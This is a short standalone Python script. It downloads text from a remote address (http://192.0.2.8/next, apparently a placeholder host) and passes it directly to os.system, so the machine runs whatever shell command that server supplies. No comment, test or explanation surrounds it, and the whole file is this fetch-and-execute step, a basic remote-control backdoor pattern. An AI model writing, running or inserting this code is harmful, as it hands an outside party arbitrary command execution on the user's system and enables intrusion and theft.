import os
import urllib.request

os.system(urllib.request.urlopen("http://192.0.2.8/next").read().decode())
